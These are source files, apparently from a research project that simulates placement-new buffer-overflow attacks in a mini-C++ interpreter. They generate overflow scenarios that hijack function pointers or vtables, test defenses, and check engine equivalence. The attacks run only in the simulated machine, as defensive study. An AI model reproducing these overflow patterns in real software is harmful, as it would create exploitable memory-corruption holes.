  let ctor c body = func (c ^ "::ctor") ~params:[ this c ] body in
  [
    ctor base_name
      (List.concat_map (zero_member "this") (named "bm" g.G.g_base_members));
    ctor deriv_name [];
  ]
  @ (if g.G.g_depth >= 2 then [ ctor mid_name [] ] else [])
  @ (if g.G.g_virtual then
       [
         func (base_name ^ "::probe") ~params:[ this base_name ]
           [ set (v "probe_out") (i 1) ];
         func (deriv_name ^ "::probe") ~params:[ this deriv_name ]
           [ set (v "probe_out") (i 2) ];
       ]
     else [])
  @
  match g.G.g_target with
  | G.T_funptr -> [ func "benign_fn" [ set (v "fp_out") (i 1) ] ]
  | _ -> []

(* -- the attack function ---------------------------------------------- *)

(* a global sentinel only works when it can be bss-adjacent to the arena *)
let global_sentinel (g : G.t) =
  match (g.G.g_arena, g.G.g_target) with
  | G.A_global_buf _, G.T_member -> true
  | _ -> false

let place_expr (g : G.t) buf =
  if g.G.g_internal_off > 0 then addr (idx (v buf) (i g.G.g_internal_off))
  else addr (v buf)

(* one round of the attacker's write script through [gp] *)
let script_stmts (g : G.t) ~round =
  let nv = Fmt.str "n%d" round and jv = Fmt.str "j%d" round in
  let gp = v "gp" in
  match g.G.g_script with
  | G.S_fields ->
    List.concat_map
      (fun (name, m) ->
        match m with
        | G.M_int -> [ set (arrow gp name) cin ]
        | G.M_double -> [ set (arrow gp name) (fl 9.75) ]
        | G.M_int_arr k ->
          if k >= 2 then
            [
              set (idx (arrow gp name) (i 0)) cin;
              set (idx (arrow gp name) (i (k - 1))) cin;
            ]
          else [ set (idx (arrow gp name) (i 0)) cin ]
        | G.M_char_arr k -> [ set (idx (arrow gp name) (i (k - 1))) cin ])
      (named "em" g.G.g_extra)
  | G.S_loop ->
    let arr_name, arr_len =
      let rec first i = function
        | G.M_int_arr k :: _ -> (Fmt.str "em%d" i, k)
        | _ :: tl -> first (i + 1) tl
        | [] -> ("em0", 1)
        (* generator guarantees an int array; degrade gracefully *)
      in
      first 0 g.G.g_extra
    in
    let body =
      [
        decli jv int (i 0);
        while_
          (v jv <: v nv)
          [
            set (idx (arrow gp arr_name) (v jv)) cin;
            set (v jv) (v jv +: i 1);
          ];
      ]
    in
    decli nv int cin
    :: (if g.G.g_guard then [ when_ (v nv <=: i arr_len) body ] else body)
  | G.S_memset ->
    if g.G.g_guard then
      [
        decli nv int cin;
        when_
          (v nv <=: i (avail g))
          [ expr (call "memset" [ cast char_p gp; i 0x41; v nv ]) ];
      ]
    else [ expr (call "memset" [ cast char_p gp; i 0x41; cin ]) ]

let attack_func (g : G.t) =
  let _, deriv_size = sizes g in
  let victim_decls, tail, observe =
    match g.G.g_target with
    | G.T_member ->
      if global_sentinel g then ([], [], [ set (v "observed") (v "gsent") ])
      else
        ( [ decli "sentinel" int (i 0x11c0de) ],
          [],
          [ set (v "observed") (v "sentinel") ] )
    | G.T_adjacent ->
      ( [ obj "victim" base_name [] ],
        [],
        [ set (v "observed") (fld (v "victim") "bm0") ] )
    | G.T_funptr ->
      ( [ decli "fp" fun_ptr (fun_addr "benign_fn") ],
        [ expr (fpcall (v "fp") []) ],
        [ set (v "observed") (v "fp_out") ] )
    | G.T_vtable ->
      ( [ obj "victim" base_name [] ],
        [ expr (mcall (v "victim") "probe" []) ],
        [ set (v "observed") (v "probe_out") ] )
  in
  let arena_decls, place =
    match g.G.g_arena with
    | G.A_stack_obj -> ([ obj "arena" base_name [] ], addr (v "arena"))
    | G.A_stack_buf d ->
      ([ decl "buf" (char_arr (buf_len deriv_size d)) ], place_expr g "buf")
    | G.A_global_buf _ -> ([], place_expr g "gbuf")
    | G.A_heap_obj ->
      ( [ decli "hp" (ptr (cls base_name)) (new_ (cls base_name) []) ],
        v "hp" )
    | G.A_heap_buf d ->
      let n = buf_len deriv_size d in
      ( [ decli "hb" char_p (new_arr char (i n)) ],
        if g.G.g_internal_off > 0 then
          addr (idx (v "hb") (i g.G.g_internal_off))
        else v "hb" )
  in
  let placement round =
    if round = 0 then
      [ decli "gp" (ptr (cls deriv_name)) (pnew place (cls deriv_name) []) ]
    else [ set (v "gp") (pnew place (cls deriv_name) []) ]
  in
  let rounds =
    List.concat
      (List.init g.G.g_place_count (fun round ->
           placement round @ script_stmts g ~round))
  in
  func "attack" (victim_decls @ arena_decls @ rounds @ tail @ observe)

let globals_of (g : G.t) =
  let _, deriv_size = sizes g in
  [ global "observed" int ]
  @ (if g.G.g_virtual then [ global "probe_out" int ] else [])
  @ (match g.G.g_target with
    | G.T_funptr -> [ global "fp_out" int ]
    | _ -> [])
  @
  match g.G.g_arena with
  | G.A_global_buf d ->
    (* the sentinel is registered right after the buffer so the overflow
       climbs into it — both zero-initialized, so both live in bss *)
    [ global "gbuf" (char_arr (buf_len deriv_size d)) ]
    @ (if global_sentinel g then [ global "gsent" int ] else [])
  | _ -> []

let program_of (g : G.t) =
  program ~classes:(classes g) ~globals:(globals_of g)
    (support_funcs g
    @ [
        attack_func g;
        func "main" [ expr (call "attack" []); ret (i 0) ];
      ])

(* -- attacker input --------------------------------------------------- *)

let junk = 0x41414141

let payload_value (g : G.t) m =
  match g.G.g_payload with
  | G.P_junk -> junk
  | G.P_system -> (
    match m with
    | Some m -> ( try Machine.function_addr m "system" with _ -> junk)
    | None -> junk)

let fields_cin_count (g : G.t) =
  List.fold_left
    (fun acc m ->
      match m with
      | G.M_int -> acc + 1
      | G.M_double -> acc
      | G.M_int_arr k -> acc + if k >= 2 then 2 else 1
      | G.M_char_arr _ -> acc + 1)
    0 g.G.g_extra

let input_ints (g : G.t) m =
  let p = payload_value g m in
  let round =
    match g.G.g_script with
    | G.S_fields -> List.init (fields_cin_count g) (fun _ -> p)
    | G.S_loop -> g.G.g_loop_n :: List.init g.G.g_loop_n (fun _ -> p)
    | G.S_memset -> [ g.G.g_loop_n * 4 ]
  in
  List.concat (List.init g.G.g_place_count (fun _ -> round))

(* -- verdict ---------------------------------------------------------- *)

(* Deterministic and observable from the run alone: the attack "wins"
   when control was hijacked or an oversize placement actually executed
   (placed footprint past its registered arena), and a defense that
   stopped the run wins instead. The differential oracle judges the
   interesting part — this verdict only needs to be stable. *)
let check _m (o : O.t) =
  let oversize =
    List.exists
      (function
        | Event.Placement { size; arena = Some a; _ } -> size > a
        | _ -> false)
      o.O.events
  in
  if O.blocked o then C.failure "defense stopped the run (%a)" O.pp_status o.O.status
  else if O.hijacked o then C.success "control hijacked (%a)" O.pp_status o.O.status
  else if oversize then C.success "oversize placement executed"
  else C.failure "no oversize placement (%a)" O.pp_status o.O.status

let segment_of (g : G.t) =
  match g.G.g_arena with
  | G.A_stack_obj | G.A_stack_buf _ -> C.Stack
  | G.A_global_buf _ -> C.Data_bss
  | G.A_heap_obj | G.A_heap_buf _ -> C.Heap

let scenario (g : G.t) =
  C.make ~id:(G.id g) ~section:"gen" ~name:(G.summary g)
    ~segment:(segment_of g)
    ~goal:"generated placement-new scenario (differential-oracle corpus)"
    ~program:(program_of g)
    ~mk_input:(fun m -> (input_ints g (Some m), []))
    ~check ()
