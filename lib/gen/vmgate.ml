(** E19 — the bytecode-engine gate.

    The compiled VM ({!Pna_minicpp.Vm}) is only admissible as a speed
    lever if it is observationally indistinguishable from the
    tree-walking interpreter. This gate drives both engines over

    - the whole attack catalogue under defenses off and fully on, plain
      and sanitized, and
    - a seeded stream of generated genomes (the E17 corpus
      distribution), sanitized,

    comparing the complete {!Pna_attacks.Driver.result} — outcome
    (status, step count, event stream, program output), verdict, and the
    PNASan violation list — plus the per-run Vmem access-accounting
    deltas (reads, writes, taint writes, faults), which pin down taint
    propagation byte for byte. Any divergence fails the gate.

    The speed half prepares an interpreter-bound arithmetic loop once
    per engine and times [run_prepared]: the VM must clear a 3x floor,
    the payoff the committed BENCH_interp.json records. *)

module Driver = Pna_attacks.Driver
module Catalog = Pna_attacks.Catalog
module All = Pna_attacks.All
module Config = Pna_defense.Config
module Machine = Pna_machine.Machine
module Vmem = Pna_vmem.Vmem
module Outcome = Pna_minicpp.Outcome
module Ast = Pna_minicpp.Ast
module Ctype = Pna_layout.Ctype
module Clock = Pna_telemetry.Clock
module R = Pna_rand.Rand

type row = {
  q_id : string;
  q_config : string;
  q_sanitized : bool;
  q_outcome : bool;  (** status, steps, events, output all equal *)
  q_verdict : bool;
  q_violations : bool;  (** the sanitizer observations, taint included *)
  q_accounting : bool;  (** reads/writes/taint-writes/faults deltas equal *)
}

let row_ok r = r.q_outcome && r.q_verdict && r.q_violations && r.q_accounting

type speed = {
  s_steps : int;  (** steps per run — identical on both engines *)
  s_interp_ms : float;
  s_vm_ms : float;
  s_ratio : float;  (** interp / vm — the compiled payoff; gate >= 3 *)
}

type t = {
  v_rows : row list;  (** one per catalogue attack x config x sanitize *)
  v_genomes : int;  (** generated genomes compared *)
  v_genome_bad : row list;  (** the divergent ones — gate requires none *)
  v_seed : int;
  v_speed : speed;
  v_ok : bool;
}

(* One rewound run with its access-accounting delta, E15-style: the
   stats sampled immediately around [run_prepared] so only the run
   itself is in the window. *)
let accounted_run ~max_steps p =
  let mem = Machine.mem (Driver.reset p) in
  let sample () =
    ( Vmem.total_reads mem,
      Vmem.total_writes mem,
      Vmem.total_taint_writes mem,
      Vmem.total_faults mem )
  in
  let r0, w0, t0, f0 = sample () in
  let r = Driver.run_prepared ~max_steps p in
  let r1, w1, t1, f1 = sample () in
  (r, (r1 - r0, w1 - w0, t1 - t0, f1 - f0))

let compare_engines ~max_steps ~config ~sanitize (a : Catalog.t) =
  let once engine =
    accounted_run ~max_steps (Driver.prepare ~config ~sanitize ~engine a)
  in
  let ri, di = once `Interp in
  let rv, dv = once `Bytecode in
  {
    q_id = a.Catalog.id;
    q_config = config.Config.name;
    q_sanitized = sanitize;
    q_outcome = ri.Driver.outcome = rv.Driver.outcome;
    q_verdict = ri.Driver.verdict = rv.Driver.verdict;
    q_violations = ri.Driver.violations = rv.Driver.violations;
    q_accounting = di = dv;
  }

let catalogue_budget = 200_000

let catalogue () =
  List.concat_map
    (fun (a : Catalog.t) ->
      List.concat_map
        (fun config ->
          List.map
            (fun sanitize ->
              compare_engines ~max_steps:catalogue_budget ~config ~sanitize a)
            [ false; true ])
        [ Config.none; Config.full ])
    All.attacks

(* The generated stream reuses the oracle's step budget: a genome the
   oracle can classify is a genome both engines must agree on. *)
let genomes ~seed ~n =
  let rng = R.create (seed lxor 0x19e4b3) in
  let bad = ref [] in
  for _ = 1 to n do
    let g = Genome.generate rng in
    let row =
      compare_engines ~max_steps:Oracle.default_max_steps ~config:Config.none
        ~sanitize:true (Build.scenario g)
    in
    if not (row_ok row) then bad := row :: !bad
  done;
  List.rev !bad

(* The speed floor scenario: a benign, interpreter-bound arithmetic loop
   — no memory traffic to speak of, so the measured ratio is the
   dispatch payoff itself, the dominant term in every loop-heavy
   scenario. The catalogue attacks are too short-lived to time honestly
   ([run_prepared] on them is dominated by snapshot restore). *)
let bench_scenario ~iters =
  let body =
    Ast.
      [
        Assign
          ( Var "acc",
            Bin
              ( Add,
                Bin
                  ( Mul,
                    Bin
                      ( Bor,
                        Bin (Add, Bin (Mul, Var "i", Int 3), Int 1),
                        Bin (Shr, Var "i", Int 2) ),
                    Int 2 ),
                Bin (Band, Var "acc", Int 7) ) );
        Assign (Var "i", Bin (Add, Var "i", Int 1));
      ]
  in
  let program =
    Ast.
      [
        func ~ret:Ctype.Int "main"
          [
            Decl ("i", Ctype.Int, Some (Int 0));
            Decl ("acc", Ctype.Int, Some (Int 0));
            While (Bin (Lt, Var "i", Int iters), body);
            Return (Some (Var "acc"));
          ];
      ]
    |> Ast.program
  in
  Catalog.make ~id:"vm-bench-arith" ~section:"E19"
    ~name:"interpreter-bound arithmetic loop" ~segment:Catalog.Stack
    ~goal:"time the engine dispatch payoff on pure computation" ~program
    ~mk_input:(fun _ -> ([], []))
    ~check:(fun _ o ->
      match o.Outcome.status with
      | Outcome.Exited _ -> Catalog.success "loop completed"
      | _ -> Catalog.failure "loop did not complete")
    ()

let speed ?(iters = 30_000) () =
  let a = bench_scenario ~iters in
  let max_steps = 100 * iters in
  let time engine =
    let p = Driver.prepare ~config:Config.none ~engine a in
    let r0 = Driver.run_prepared ~max_steps p in
    let best = ref Float.infinity in
    for _ = 1 to 3 do
      let t0 = Clock.now_ns () in
      ignore (Driver.run_prepared ~max_steps p);
      best := Float.min !best (Clock.elapsed_s ~a:t0 ~b:(Clock.now_ns ()))
    done;
    (r0, !best)
  in
  let ri, ti = time `Interp in
  let rv, tv = time `Bytecode in
  if ri.Driver.outcome <> rv.Driver.outcome then
    invalid_arg "vmgate: bench scenario diverged between engines";
  {
    s_steps = ri.Driver.outcome.Outcome.steps;
    s_interp_ms = ti *. 1e3;
    s_vm_ms = tv *. 1e3;
    s_ratio = (if tv > 0. then ti /. tv else Float.infinity);
  }

let speed_floor = 3.0

let run ?(seed = 42) ?(n = 1000) ?iters () =
  let rows = catalogue () in
  let bad = genomes ~seed ~n in
  let sp = speed ?iters () in
  {
    v_rows = rows;
    v_genomes = n;
    v_genome_bad = bad;
    v_seed = seed;
    v_speed = sp;
    v_ok =
      List.for_all row_ok rows && bad = [] && n > 0
      && sp.s_ratio >= speed_floor;
  }

let pp_row ppf r =
  Fmt.pf ppf "%-28s %-6s %-5s DIVERGES%s%s%s%s" r.q_id r.q_config
    (if r.q_sanitized then "san" else "plain")
    (if r.q_outcome then "" else "  [outcome]")
    (if r.q_verdict then "" else "  [verdict]")
    (if r.q_violations then "" else "  [violations]")
    (if r.q_accounting then "" else "  [accounting]")

let pp ppf t =
  Fmt.pf ppf "@[<v>E19 — compiled bytecode == tree-walking interpreter@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun r -> if not (row_ok r) then Fmt.pf ppf "%a@," pp_row r)
    t.v_rows;
  List.iter (fun r -> Fmt.pf ppf "%a@," pp_row r) t.v_genome_bad;
  Fmt.pf ppf
    "catalogue: %d/%d engine pairs identical (outcome, verdict, violations, \
     access accounting)@,\
     generated: %d genomes (seed %d), %d divergence(s)@,\
     speed: %d-step arith loop, interp %.1f ms vs vm %.1f ms rewound  (%.2fx, \
     gate >= %.0f)@,\
     => %s@]"
    (List.length (List.filter row_ok t.v_rows))
    (List.length t.v_rows) t.v_genomes t.v_seed
    (List.length t.v_genome_bad)
    t.v_speed.s_steps t.v_speed.s_interp_ms t.v_speed.s_vm_ms t.v_speed.s_ratio
    speed_floor
    (if t.v_ok then "OK" else "FAILED")
