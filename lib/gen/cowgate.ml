(** E20 — the copy-on-write equivalence gate.

    Dirty-page rewinds ({!Pna_vmem.Vmem.restore} under COW, the speed
    lever behind the scenario service) are only admissible if they are
    bit-identical to the full-copy reference path. This gate drives
    every scenario three ways —

    - a prepared machine rewinding over dirty pages (COW on, the
      default),
    - a replica thawed from the prepared machine's frozen image (the
      cross-domain sharing path: clean pages reference the image's
      immutable backing), and
    - a prepared machine with COW disabled ({!Pna_machine.Machine.set_cow}
      [false]), which deep-copies on every snapshot and restore — the
      reference semantics

    — over the whole attack catalogue (defenses off and fully on, plain
    and sanitized, both execution engines) and a seeded stream of
    generated genomes. Each variant runs the scenario twice (the second
    run rewinds a dirtied machine — the path under test) and is then
    rewound one final time. Compared: the complete
    {!Pna_attacks.Driver.result} of every round (outcome, verdict,
    sanitizer violations) and a digest of the rewound state — every
    mapped segment's contents, taint and permissions, plus the
    per-byte shadow states when the oracle is attached. Any difference
    fails the gate. *)

module Driver = Pna_attacks.Driver
module Catalog = Pna_attacks.Catalog
module All = Pna_attacks.All
module Config = Pna_defense.Config
module Machine = Pna_machine.Machine
module Vmem = Pna_vmem.Vmem
module Segment = Pna_vmem.Segment
module Perm = Pna_vmem.Perm
module San = Pna_sanitizer.Sanitizer
module R = Pna_rand.Rand

(* Everything a rewind is supposed to reproduce, hashed: segment
   geometry, permissions, contents and taint (straight off the backing
   bytes — the dirty bitmaps are COW bookkeeping and deliberately
   excluded), and the shadow map when a sanitizer is attached. *)
let state_digest m =
  let buf = Buffer.create (1 lsl 16) in
  List.iter
    (fun (s : Segment.t) ->
      Buffer.add_string buf
        (Fmt.str "%s|%x|%x|%s|" (Segment.kind_name s.Segment.kind)
           s.Segment.base s.Segment.size
           (Perm.to_string s.Segment.perm));
      Buffer.add_bytes buf s.Segment.bytes;
      Buffer.add_bytes buf s.Segment.taint)
    (Vmem.segments (Machine.mem m));
  (match Machine.sanitizer m with
  | None -> ()
  | Some sn ->
    List.iter
      (fun (base, states) ->
        Buffer.add_string buf (Fmt.str "shadow|%x|" base);
        Buffer.add_bytes buf states)
      (San.shadow_images sn));
  Digest.to_hex (Digest.bytes (Buffer.to_bytes buf))

type row = {
  c_id : string;
  c_config : string;
  c_engine : string;
  c_sanitized : bool;
  c_results : bool;  (** per-round results identical across the variants *)
  c_rewound : bool;  (** post-rewind state digests identical *)
}

let row_ok r = r.c_results && r.c_rewound

(* The second round is the one under test: it restores a machine the
   first round dirtied, so the blitted dirty runs must reassemble the
   snapshot exactly. *)
let rounds = 2

let result_key (r : Driver.result) =
  (r.Driver.outcome, r.Driver.verdict, r.Driver.violations)

let drive ~max_steps p =
  let rs =
    List.init rounds (fun _ -> result_key (Driver.run_prepared ~max_steps p))
  in
  (rs, state_digest (Driver.reset p))

let compare_paths ~max_steps ~config ~sanitize ~engine (a : Catalog.t) =
  let cow = Driver.prepare ~config ~sanitize ~engine a in
  let replica = Driver.thaw (Driver.freeze cow) in
  let reference = Driver.prepare ~config ~sanitize ~engine a in
  Machine.set_cow (Driver.reset reference) false;
  let r_ref, d_ref = drive ~max_steps reference in
  let r_cow, d_cow = drive ~max_steps cow in
  let r_rep, d_rep = drive ~max_steps replica in
  {
    c_id = a.Catalog.id;
    c_config = config.Config.name;
    c_engine = Driver.engine_name engine;
    c_sanitized = sanitize;
    c_results = r_cow = r_ref && r_rep = r_ref;
    c_rewound = String.equal d_cow d_ref && String.equal d_rep d_ref;
  }

let catalogue_budget = 200_000

(* The deliberately-slow exhaustion scenarios (the same pair the bench
   harness budgets separately): undefended they grind the full budget
   against the allocator — minutes per run sanitized — and the gate only
   needs a deterministic prefix that dirties pages, not the whole grind. *)
let slow_budget = 20_000
let slow_ids = [ "L15-dos"; "L23-oom" ]

let budget_for (a : Catalog.t) =
  if List.mem a.Catalog.id slow_ids then slow_budget else catalogue_budget

let catalogue () =
  List.concat_map
    (fun (a : Catalog.t) ->
      List.concat_map
        (fun config ->
          List.concat_map
            (fun sanitize ->
              List.map
                (fun engine ->
                  compare_paths ~max_steps:(budget_for a) ~config ~sanitize
                    ~engine a)
                [ `Interp; `Bytecode ])
            [ false; true ])
        [ Config.none; Config.full ])
    All.attacks

(* The generated stream walks all four sanitize x engine combinations
   round-robin, so the dirty-page paths the catalogue's hand-written
   scenarios never take (odd copy shapes, generated placement sites)
   are exercised under each. *)
let genomes ~seed ~n =
  let rng = R.create (seed lxor 0xc09a7e) in
  let bad = ref [] in
  for i = 1 to n do
    let g = Genome.generate rng in
    let row =
      compare_paths ~max_steps:Oracle.default_max_steps ~config:Config.none
        ~sanitize:(i land 1 = 0)
        ~engine:(if i land 2 = 0 then `Interp else `Bytecode)
        (Build.scenario g)
    in
    if not (row_ok row) then bad := row :: !bad
  done;
  List.rev !bad

type t = {
  c_rows : row list;  (** catalogue: attack x config x sanitize x engine *)
  c_genomes : int;  (** generated genomes compared *)
  c_genome_bad : row list;  (** the divergent ones — gate requires none *)
  c_seed : int;
  c_ok : bool;
}

let run ?(seed = 42) ?(n = 300) () =
  let rows = catalogue () in
  let bad = genomes ~seed ~n in
  {
    c_rows = rows;
    c_genomes = n;
    c_genome_bad = bad;
    c_seed = seed;
    c_ok = List.for_all row_ok rows && bad = [] && n > 0;
  }

let pp_row ppf r =
  Fmt.pf ppf "%-28s %-6s %-8s %-5s DIVERGES%s%s" r.c_id r.c_config r.c_engine
    (if r.c_sanitized then "san" else "plain")
    (if r.c_results then "" else "  [results]")
    (if r.c_rewound then "" else "  [rewound state]")

let pp ppf t =
  Fmt.pf ppf "@[<v>E20 — copy-on-write rewinds == full-copy reference@,%s@,"
    (String.make 100 '-');
  List.iter
    (fun r -> if not (row_ok r) then Fmt.pf ppf "%a@," pp_row r)
    t.c_rows;
  List.iter (fun r -> Fmt.pf ppf "%a@," pp_row r) t.c_genome_bad;
  Fmt.pf ppf
    "catalogue: %d/%d path triples identical (COW, thawed replica, full copy: \
     results + rewound memory, taint, perms, shadow)@,\
     generated: %d genomes (seed %d), %d divergence(s)@,\
     => %s@]"
    (List.length (List.filter row_ok t.c_rows))
    (List.length t.c_rows) t.c_genomes t.c_seed
    (List.length t.c_genome_bad)
    (if t.c_ok then "OK" else "FAILED")
