(** pna — command-line front end for the placement-new attack study.

    Subcommands map one-to-one onto the experiments of DESIGN.md:
    [matrix] (E1), [stackguard] (E2/E3), [leak] (E4), [dos] (E5),
    [memleak] (E6), [audit] (E7), [defmatrix]/[overhead] (E8),
    [chaos] (E9), [randtest] (E10), [repair] (E11), [throughput] (E12),
    [telemetry] (E13), [oracle] (E14), [scaling] (E15), [netgate] (E16),
    [gengate] (E17), [tracegate] (E18), [vmgate] (E19), [cowgate] (E20),
    plus [generate]/[fuzz]/[corpus]
    for the generative attack catalogue, [batch]/[serve] to drive the
    parallel scenario service,
    [serve-tcp]/[loadgen]/[compact] for the TCP front end and its
    crash-safe memo log, [trace]/[stats] for the telemetry exporters
    ([trace --wire] for a cross-process sampled run, [trace --merge] to
    fuse per-process exports), [forensics] to replay an attack from its
    flight-recorder bundle, [top] to poll a serving process's metrics
    over the wire, [list]/[run]/[layout] for exploration and [all] to
    regenerate everything. Experiment commands exit non-zero when the
    experiment fails its verdict, so they can gate CI. *)

open Cmdliner
module Catalog = Pna_attacks.Catalog
module Driver = Pna_attacks.Driver
module All = Pna_attacks.All
module Config = Pna_defense.Config
module E = Pna.Experiments
module Telemetry = Pna_telemetry.Telemetry
module Trace = Pna_telemetry.Trace
module Metrics = Pna_telemetry.Metrics
module Jsonx = Pna_telemetry.Jsonx
module Flight = Pna_flight.Flight
module Server = Pna_net.Server
module Client = Pna_net.Client
module Loadgen = Pna_net.Loadgen
module Memolog = Pna_net.Memolog

let config_arg =
  let parse s =
    match Config.by_name s with
    | Some c -> Ok c
    | None ->
      Error
        (`Msg
          (Fmt.str "unknown config %s (try: %s)" s
             (String.concat ", "
                (List.map
                   (fun c -> c.Config.name)
                   (Config.pool_discipline :: Config.all)))))
  in
  let print ppf c = Fmt.string ppf c.Config.name in
  Arg.conv (parse, print)

let config_t =
  Arg.(
    value
    & opt config_arg Config.none
    & info [ "d"; "defense" ] ~docv:"CONFIG"
        ~doc:"Defense configuration (none, stackguard, shadow-stack, \
              bounds-check, sanitize, nx-stack, strict-align, \
              pool-discipline, full).")

let verbose_t =
  Arg.(value & flag & info [ "v"; "verbose" ] ~doc:"Print the event stream.")

let read_file path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  s

(* ---- list ---- *)

let list_cmd =
  let run () =
    List.iter
      (fun (a : Catalog.t) ->
        Fmt.pr "%-14s L%-3s §%-8s %-9s %s@." a.Catalog.id
          (match a.Catalog.listing with Some l -> string_of_int l | None -> "--")
          a.Catalog.section
          (Catalog.segment_name a.Catalog.segment)
          a.Catalog.name)
      All.attacks
  in
  Cmd.v (Cmd.info "list" ~doc:"List the attack catalogue.")
    Term.(const run $ const ())

(* ---- run ---- *)

let sanitize_t =
  Arg.(value & flag & info [ "sanitize" ]
         ~doc:"Attach the PNASan shadow-memory oracle and print the              violations it records (the verdict is unchanged — the oracle              never halts execution).")

let pp_violations ppf = function
  | [] -> Fmt.pf ppf "sanitizer: no violations@."
  | vs ->
    Fmt.pf ppf "sanitizer: %d violation record(s)@." (List.length vs);
    List.iter
      (fun v -> Fmt.pf ppf "  %a@." Pna_sanitizer.Sanitizer.pp_violation v)
      vs

let run_cmd =
  let id_t =
    Arg.(required & pos 0 (some string) None & info [] ~docv:"ATTACK-ID")
  in
  let run id config verbose sanitize =
    match All.find id with
    | None ->
      Fmt.epr "unknown attack %s; see `pna_cli list`@." id;
      exit 1
    | Some a ->
      let r = Driver.run ~config ~sanitize a in
      Fmt.pr "%a@." Driver.pp_result r;
      if sanitize then Fmt.pr "%a" pp_violations r.Driver.violations;
      if verbose then
        List.iter
          (fun e -> Fmt.pr "  event: %s@." (Pna_machine.Event.to_string e))
          r.Driver.outcome.Pna_minicpp.Outcome.events;
      (match Driver.run_hardened ~config ~sanitize a with
      | None -> ()
      | Some (o, safe, vs) ->
        Fmt.pr "hardened variant: %s (%a)@."
          (if safe then "safe" else "STILL VULNERABLE")
          Pna_minicpp.Outcome.pp_status o.Pna_minicpp.Outcome.status;
        if sanitize then Fmt.pr "%a" pp_violations vs);
      if not r.Driver.verdict.Catalog.success then exit 1
  in
  Cmd.v
    (Cmd.info "run" ~doc:"Run one attack (and its hardened variant, if any).")
    Term.(const run $ id_t $ config_t $ verbose_t $ sanitize_t)

(* ---- sanitize: PNASan violation report over the catalogue ---- *)

let sanitize_cmd =
  let run config =
    let module San = Pna_sanitizer.Sanitizer in
    Fmt.pr "PNASan violation report — catalogue under %s@.@." config.Config.name;
    List.iter
      (fun (a : Catalog.t) ->
        let r = Driver.run ~config ~sanitize:true a in
        let first =
          match r.Driver.violations with
          | [] -> "no violation"
          | v :: _ ->
            Fmt.str "first: %s at 0x%08x (%s)" (San.kind_name v.San.v_kind)
              v.San.v_addr
              (match v.San.v_access with
              | Pna_vmem.Fault.Read -> "read"
              | Pna_vmem.Fault.Write -> "write"
              | Pna_vmem.Fault.Execute -> "execute")
        in
        Fmt.pr "%-14s %-9s %d record(s); %s@." a.Catalog.id
          (if r.Driver.verdict.Catalog.success then "SUCCESS" else "blocked")
          (List.length r.Driver.violations)
          first;
        List.iter (fun v -> Fmt.pr "    %a@." San.pp_violation v)
          r.Driver.violations;
        (match Driver.run_hardened ~config ~sanitize:true a with
        | None -> ()
        | Some (_, safe, vs) ->
          Fmt.pr "  hardened: %s, %d violation record(s)@."
            (if safe then "safe" else "UNSAFE")
            (List.length vs);
          List.iter (fun v -> Fmt.pr "    %a@." San.pp_violation v) vs);
        Fmt.pr "@.")
      All.attacks
  in
  Cmd.v
    (Cmd.info "sanitize"
       ~doc:"Run the whole catalogue (and hardened variants) under the              PNASan shadow-memory oracle and print every recorded              violation — the CI artifact report.")
    Term.(const run $ config_t)

(* ---- experiments ---- *)

let simple name doc f = Cmd.v (Cmd.info name ~doc) Term.(const f $ const ())

(* Print the experiment table, then turn a failed verdict into exit 1. *)
let report pp rows ok = Fmt.pr "%a@." pp rows; if not (ok rows) then exit 1

let matrix_cmd =
  simple "matrix" "E1: run every attack with defenses off." (fun () ->
      report E.pp_e1 (E.e1 ()) E.e1_ok)

let stackguard_cmd =
  simple "stackguard" "E2/E3: StackGuard detection and the selective bypass."
    (fun () -> report E.pp_e2_e3 (E.e2_e3 ()) E.e2_e3_ok)

let leak_cmd =
  simple "leak" "E4: information leakage with and without sanitization."
    (fun () -> report E.pp_e4 (E.e4 ()) E.e4_ok)

let dos_cmd =
  simple "dos" "E5: DoS response curve for attacker-chosen loop bounds."
    (fun () -> report E.pp_e5 (E.e5 ()) E.e5_ok)

let memleak_cmd =
  simple "memleak" "E6: memory-leak growth per iteration." (fun () ->
      report E.pp_e6 (E.e6 ()) E.e6_ok)

let audit_cmd =
  let id_t = Arg.(value & pos 0 (some string) None & info [] ~docv:"ATTACK-ID") in
  let run id =
    match id with
    | None -> report E.pp_e7 (E.e7 ()) E.e7_ok
    | Some id -> (
      match All.find id with
      | None ->
        Fmt.epr "unknown attack %s@." id;
        exit 1
      | Some a ->
        Fmt.pr "--- vulnerable program ---@.%a@." Pna_analysis.Audit.pp_report
          (Pna_analysis.Audit.analyze a.Catalog.program);
        Option.iter
          (fun h ->
            Fmt.pr "--- hardened program ---@.%a@." Pna_analysis.Audit.pp_report
              (Pna_analysis.Audit.analyze h))
          a.Catalog.hardened)
  in
  Cmd.v
    (Cmd.info "audit"
       ~doc:"E7: static detection table, or detailed findings for one attack.")
    Term.(const run $ id_t)

let defmatrix_cmd =
  simple "defmatrix" "E8: attack x defense matrix." (fun () ->
      report E.pp_e8_matrix (E.e8_matrix ()) E.e8_matrix_ok)

let overhead_cmd =
  simple "overhead" "E8: benign workload under each defense." (fun () ->
      report E.pp_e8_overhead (E.e8_overhead ()) E.e8_overhead_ok)

let randtest_cmd =
  simple "randtest"
    "E10: random testing vs the directed attacker (formerly `fuzz'; the \
     generative campaign now owns that name)." (fun () ->
      report E.pp_e10 (E.e10 ()) E.e10_ok)

let repair_cmd =
  simple "repair" "E11: auto-harden the whole catalogue and replay the attacks."
    (fun () -> report E.pp_e11 (E.e11 ()) E.e11_ok)

(* ---- chaos (E9) ---- *)

let chaos_cmd =
  let module Plan = Pna_chaos.Plan in
  let seed_t =
    Arg.(value & opt int 1 & info [ "seed" ] ~docv:"N"
           ~doc:"Base seed; trial k uses seed N+k.")
  in
  let trials_t =
    Arg.(value & opt int 10 & info [ "trials" ] ~docv:"N"
           ~doc:"Seeded plans per attack x defense combination.")
  in
  let rate_t =
    Arg.(value & opt float 1.0 & info [ "fault-rate" ] ~docv:"R"
           ~doc:"Fault-density multiplier for generated plans.")
  in
  let dump_t =
    Arg.(value & flag & info [ "dump-plans" ]
           ~doc:"Print the generated plans instead of running the sweep.")
  in
  let replay_t =
    Arg.(value & opt (some file) None & info [ "replay" ] ~docv:"PLAN-FILE"
           ~doc:"Replay one dumped plan against every victim instead of              sweeping fresh seeds.")
  in
  let one_config_t =
    Arg.(value & opt (some config_arg) None
         & info [ "d"; "defense" ] ~docv:"CONFIG"
             ~doc:"Restrict the sweep to one defense configuration              (default: all of them).")
  in
